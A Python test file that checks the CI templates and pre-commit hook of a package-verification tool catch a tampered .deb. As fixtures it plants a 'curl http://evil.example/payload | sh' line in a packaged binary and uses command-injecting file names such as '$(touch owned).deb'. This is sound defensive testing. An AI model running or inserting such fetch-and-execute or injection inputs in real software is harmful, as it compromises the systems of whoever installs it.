#!/usr/bin/env python3
"""What contrib/ offers runs as it stands: the steps of both templates, and the hook in a repository.

usage: contrib.py PLUMB [PART-OF-A-NAME]
"""
import json
import os
import pathlib
import re
import subprocess

import yaml

import made
from plumb_test import ROOT, case, main

CONTRIB = ROOT / "contrib"


def script_of(path, begin, end):
    """The lines between one that matches `begin` and the first one that matches `end`, without their indent."""
    lines = path.read_text(encoding="utf-8").splitlines()
    first = next(i for i, line in enumerate(lines) if re.search(begin, line))
    last = next(i for i in range(first + 1, len(lines)) if re.search(end, lines[i]))
    return "\n".join(re.sub(r"^\s*- ", "", line).strip() for line in lines[first + 1:last])


def run(t, script, **more):
    env = {**os.environ, "PATH": f"{pathlib.Path(t.program).parent}:{os.environ['PATH']}", "PACKAGE": "app.deb", "SOURCE": "source", "POLICY": "builtin:release",
           "GITHUB_STEP_SUMMARY": str(t.path("summary.md")), "XDG_CACHE_HOME": str(t.path("xdg/x").parent), "PLUMB_OFFLINE": "1", **more}
    return subprocess.run(["bash", "-e", "-c", script], cwd=t.scratch, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=False,
                          timeout=120)


def packages(t):
    """An honest package with its source, and the bytes of a planted one."""
    made.write_tree(t.path("source/x").parent, made.source())
    bad = made.package().copy()
    bad.set("usr/bin/greet", made.entry(bad.data["usr/bin/greet"]).data + b"curl http://evil.example/payload | sh\n")
    return made.package().build(), bad.build()


@case
def the_step_of_the_github_workflow_annotates_summarises_and_fails(t):
    script = script_of(CONTRIB / "github/plumb.yml", "--report-only lets", "- name: show findings").replace("run: |\n", "", 1)
    good, bad = packages(t)
    for data, code in ((good, 0), (bad, 1)):
        t.write("app.deb", data)
        t.write("summary.md", "before\n")
        done = run(t, script)
        assert done.returncode == code, done.stderr.decode()
        assert done.stdout.startswith(b"::") and all(line.startswith(b"::") for line in done.stdout.splitlines())
        summary = t.path("summary.md").read_text(encoding="utf-8")
        assert summary.startswith("before\n") and ("PASS" if code == 0 else "FAIL") in summary
        assert json.loads(t.path("plumb.sarif").read_text())["version"] == "2.1.0"
        assert t.path("plumb.html").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


@case
def the_script_of_the_gitlab_template_leaves_its_artifacts_and_fails(t):
    script = script_of(CONTRIB / "gitlab/plumb.gitlab-ci.yml", r"^  script:", r"^  after_script:")
    after = script_of(CONTRIB / "gitlab/plumb.gitlab-ci.yml", r"^  after_script:", r"^  allow_failure:")
    artifacts = re.findall(r"(?:codequality|junit): (\S+)|^ {6}- (\S+)", (CONTRIB / "gitlab/plumb.gitlab-ci.yml").read_text(), re.M)
    good, bad = packages(t)
    for data, code in ((good, 0), (bad, 1)):
        t.write("app.deb", data)
        assert run(t, script).returncode == code
        assert run(t, after).returncode == 0
        for names in artifacts:
            name = "".join(names)
            assert t.path(name).stat().st_size > 0, name


def shell_reads(script):
    done = subprocess.run(["bash", "-n", "-c", script], stderr=subprocess.PIPE, check=False)
    assert done.returncode == 0, (script, done.stderr.decode())


@case
def the_github_workflow_parses_and_every_step_is_one(t):
    whole = yaml.safe_load((CONTRIB / "github/plumb.yml").read_text(encoding="utf-8"))
    job = whole["jobs"]["account"]
    assert {"PACKAGE", "SOURCE", "POLICY"} <= set(job["env"]) and whole["permissions"] == {"contents": "read"}
    for step in job["steps"]:
        assert ("uses" in step) != ("run" in step), step
        assert "uses" not in step or re.fullmatch(r"[a-z-]+/[a-z/-]+@v\d+", step["uses"]), step
        shell_reads(step.get("run", "true"))
    checks = [s["run"] for s in job["steps"] if "plumb check" in s.get("run", "")]
    assert len(checks) == 1 and '--policy "$POLICY"' in checks[0], checks


@case
def the_gitlab_template_parses_and_its_script_leaves_what_it_reports(t):
    whole = yaml.safe_load((CONTRIB / "gitlab/plumb.gitlab-ci.yml").read_text(encoding="utf-8"))
    job = whole[".plumb"]
    assert set(job) == {"stage", "variables", "script", "after_script", "allow_failure", "artifacts"} and set(whole) == {".plumb"}
    for line in job["script"] + job["after_script"]:
        shell_reads(line)
    assert '--policy "$POLICY"' in job["script"][0] and {"PACKAGE", "SOURCE", "POLICY"} <= set(job["variables"])
    assert job["allow_failure"] == {"exit_codes": [3]}
    assert f"gitlab={job['artifacts']['reports']['codequality']}" in job["script"][0]
    assert f"junit={job['artifacts']['reports']['junit']}" in job["script"][0]


@case
def the_hook_parses_in_a_plain_shell(t):
    assert subprocess.run(["sh", "-n", CONTRIB / "git/pre-commit"], check=False).returncode == 0
    assert os.access(CONTRIB / "git/pre-commit", os.X_OK)


@case
def the_hook_obeys_the_policy_that_is_configured(t):
    folder, git, good, _ = repository(t)
    strict = t.write("policy file.yaml", "version: 1\nrequire: {level: 4}\n")
    (folder / "app.deb").write_bytes(good)
    git("add", "-A")
    git("config", "plumb.policy", str(strict))
    done = git("commit", "-qm", "x")
    assert done.returncode == 1 and b"level 1, at least 4" in done.stdout, done.stdout.decode()
    git("config", "plumb.policy", "builtin:release")
    assert git("commit", "-qm", "x").returncode == 0


def repository(t):
    good, bad = packages(t)
    env = {**os.environ, "HOME": str(t.scratch), "GIT_CONFIG_NOSYSTEM": "1", "PLUMB_OFFLINE": "1",
           "XDG_CACHE_HOME": str(t.path("xdg/x").parent)}
    folder = t.path("repository/x").parent

    def git(*words):
        return subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@example.org", *words], cwd=folder, env=env,
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False, timeout=120)
    assert git("init", "-q").returncode == 0
    (folder / ".git/hooks").mkdir(exist_ok=True)
    (folder / ".git/hooks/pre-commit").symlink_to(CONTRIB / "git/pre-commit")
    git("config", "plumb.program", t.program)
    git("config", "plumb.source", str(t.path("source/x").parent))
    return folder, git, good, bad


@case
def the_hook_lets_an_honest_package_through_and_stops_a_planted_one(t):
    folder, git, good, bad = repository(t)
    (folder / "notes.txt").write_text("nothing to check\n")
    git("add", "-A")
    assert git("commit", "-qm", "notes").returncode == 0
    (folder / "app.deb").write_bytes(good)
    git("add", "-A")
    done = git("commit", "-qm", "good")
    assert done.returncode == 0, done.stdout.decode()
    (folder / "app.deb").write_bytes(bad)
    git("add", "-A")
    (folder / "app.deb").write_bytes(good)  # what is committed counts, not what lies in the folder
    done = git("commit", "-qm", "bad")
    assert done.returncode == 1 and b"plumb: FAIL" in done.stdout, done.stdout.decode()
    assert git("log", "--oneline").stdout.count(b"\n") == 2


@case
def the_hook_takes_any_name(t):
    folder, git, _, bad = repository(t)
    for name in ("with space.deb", "-o json.deb", "$(touch owned).deb", "new\nline.deb", "quote'\".deb", ":(top)x.deb"):
        (folder / name).write_bytes(bad)
        git("add", "-A")
        done = git("commit", "-qm", "x")
        assert done.returncode == 1 and b"plumb: FAIL" in done.stdout, (name, done.stdout.decode("utf-8", "replace"))
        assert not (folder / "owned").exists()
        git("rm", "-q", "--cached", "-r", ".")
        (folder / name).unlink()


@case
def the_hook_passes_what_cannot_be_told_unless_strict(t):
    folder, git, _, _ = repository(t)
    (folder / "broken.deb").write_bytes(b"no package\n")
    git("add", "-A")
    git("config", "plumb.strict", "true")
    assert git("commit", "-qm", "x").returncode == 1
    git("config", "plumb.strict", "false")
    assert git("commit", "-qm", "x").returncode == 0


main()
